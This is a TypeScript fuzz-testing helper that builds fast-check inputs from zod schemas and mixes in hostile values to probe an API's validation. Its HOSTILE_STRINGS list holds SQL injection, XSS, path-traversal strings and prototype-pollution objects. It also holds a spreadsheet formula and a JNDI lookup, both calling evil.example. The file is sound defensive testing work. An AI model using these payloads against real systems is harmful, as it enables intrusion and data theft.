/**
 * fast-check arbitraries built from the contract's own zod schemas (through their JSON Schema,
 * `z.toJSONSchema`), plus hostile values a client could send instead.
 */
import fc from 'fast-check';
import { z } from 'zod';

/** The JSON Schema keywords z.toJSONSchema writes for our contract (checked: nothing else occurs). */
export interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  multipleOf?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
}

export const jsonSchemaOf = (schema: z.ZodType): JsonSchema =>
  z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;

const ISO_MIN = new Date('2020-01-01T00:00:00Z');
const ISO_MAX = new Date('2030-12-31T23:59:59Z');
const isoDate = fc.date({ min: ISO_MIN, max: ISO_MAX, noInvalidDate: true });

/** Strings a form field might hold: unicode, control characters, right-to-left marks. */
const textUnit = fc.oneof(
  { arbitrary: fc.constant('grapheme' as const), weight: 3 },
  { arbitrary: fc.constant('binary' as const), weight: 1 },
);

function stringOf(s: JsonSchema, ids: fc.Arbitrary<string>): fc.Arbitrary<string> {
  if (s.format === 'uuid') return fc.oneof(ids, fc.uuid());
  if (s.format === 'date-time') return isoDate.map((d) => d.toISOString());
  if (s.format === 'date') return isoDate.map((d) => d.toISOString().slice(0, 10));
  if (s.format === 'base64')
    return fc.uint8Array({ maxLength: 96 }).map((b) => Buffer.from(b).toString('base64'));
  if (s.pattern) return fc.stringMatching(new RegExp(s.pattern)).map((v) => v.slice(0, s.maxLength ?? 200));
  const minLength = s.minLength ?? 0;
  // Long limits (a 2 MB bank file) are probed by the hostile values, not by every sample.
  const maxLength = Math.min(s.maxLength ?? 80, minLength + 80);
  return textUnit.chain((unit) => fc.string({ unit, minLength, maxLength }));
}

function numberOf(s: JsonSchema): fc.Arbitrary<number> {
  const min = Math.max(s.minimum ?? -1e6, Number.MIN_SAFE_INTEGER);
  const max = Math.min(s.maximum ?? 1e6, Number.MAX_SAFE_INTEGER);
  if (s.multipleOf)
    return fc
      .integer({ min: Math.ceil(min / s.multipleOf), max: Math.floor(max / s.multipleOf) })
      .map((n) => n * (s.multipleOf as number));
  if (s.type === 'integer') return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max));
  return fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

/** Values the schema (mostly) accepts: what a well-behaved client would send. */
export function conforming(s: JsonSchema, ids: fc.Arbitrary<string>, depth = 0): fc.Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  const options = s.anyOf ?? s.oneOf;
  if (options) return fc.oneof(...options.map((o) => conforming(o, ids, depth)));
  switch (s.type) {
    case 'string':
      return stringOf(s, ids);
    case 'integer':
    case 'number':
      return numberOf(s);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const minLength = s.minItems ?? 0;
      const maxLength = Math.min(s.maxItems ?? 4, minLength + 3);
      return fc.array(s.items ? conforming(s.items, ids, depth + 1) : fc.jsonValue({ maxDepth: 1 }), {
        minLength,
        maxLength,
      });
    }
    case 'object': {
      const props = s.properties ?? {};
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [key, value] of Object.entries(props)) record[key] = conforming(value, ids, depth + 1);
      return fc.record(record, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
    }
    default:
      // z.unknown() and friends: anything JSON can carry.
      return fc.jsonValue({ maxDepth: depth > 3 ? 0 : 2 });
  }
}

/** `{"__proto__": …}` as an own key, which an object literal cannot write. */
export const protoPollution = (): Record<string, unknown> =>
  JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}');

const deeplyNested = (depth: number): unknown => {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

/** Strings that mean something to a database, a browser, a shell, a file system or a spreadsheet. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Egpj.exe',
  '\u200B\u200D\uFEFF',
  '\uD800',
  '𝕏𝕐ℤ🙂👩‍👩‍👧',
  'Ⅻ٣੩',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e308',
  "' OR '1'='1'; DROP TABLE users; --",
  '"; SELECT pg_sleep(10); --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '=HYPERLINK("http://evil.example","click")',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30T25:61:00Z',
];

/** Anything but what the field wants: wrong types, extremes, huge, deep, polluting. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  {
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      -0,
      1.5,
      1e308,
      -1e308,
      2 ** 53 + 1,
      Number.NaN,
      [],
      {},
      [[]],
      [null],
    ),
    weight: 4,
  },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.double(), weight: 1 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  { arbitrary: fc.constant(null).map(protoPollution), weight: 1 },
  { arbitrary: fc.constant(null).map(() => deeplyNested(600)), weight: 1 },
  // Big enough to reach validation under the usual 256 KB body limit…
  { arbitrary: fc.constant(null).map(() => 'x'.repeat(70_000)), weight: 1 },
  // …and a multi-byte string past it (the server must say 413, not fall over).
  { arbitrary: fc.constant(null).map(() => 'ж'.repeat(150_000)), weight: 1 },
);

type Op = 'replace' | 'drop' | 'extra' | 'wrap';
const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'isAdmin', 'role', 'id', 'extra'];

/** Every node of a JSON value, as key paths from the root. */
function nodePaths(value: unknown, at: (string | number)[] = [], out: (string | number)[][] = []) {
  out.push(at);
  if (Array.isArray(value)) value.forEach((v, i) => nodePaths(v, [...at, i], out));
  else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) nodePaths(v, [...at, k], out);
  return out;
}

/** One hostile change somewhere in a conforming value. */
export function mutate(value: unknown, hostile: unknown, pick: number, op: Op): unknown {
  const root = value === undefined ? {} : structuredClone(value);
  const paths = nodePaths(root);
  const path = paths[pick % paths.length] ?? [];
  if (path.length === 0) {
    if (op === 'extra' && root && typeof root === 'object' && !Array.isArray(root)) {
      define(root as Record<string, unknown>, EXTRA_KEYS[pick % EXTRA_KEYS.length] as string, hostile);
      return root;
    }
    return op === 'wrap' ? [root] : hostile;
  }
  let parent = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  const node = parent[last];
  if (op === 'drop' && !Array.isArray(parent)) delete parent[last];
  else if (op === 'wrap') parent[last] = [node];
  else if (op === 'extra' && node && typeof node === 'object' && !Array.isArray(node))
    define(node as Record<string, unknown>, EXTRA_KEYS[pick % EXTRA_KEYS.length] as string, hostile);
  else parent[last] = hostile;
  return root;
}

function define(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** A conforming value, or one with a hostile change, or something else entirely. */
export function fuzzed(s: JsonSchema | undefined, ids: fc.Arbitrary<string>): fc.Arbitrary<unknown> {
  const base = s ? conforming(s, ids) : fc.constant(undefined);
  const changed = fc
    .tuple(base, hostileValue, fc.nat(), fc.constantFrom<Op>('replace', 'drop', 'extra', 'wrap'))
    .map(([v, h, pick, op]) => mutate(v, h, pick, op));
  return fc.oneof(
    { arbitrary: base, weight: 3 },
    { arbitrary: changed, weight: 4 },
    { arbitrary: hostileValue, weight: 1 },
  );
}
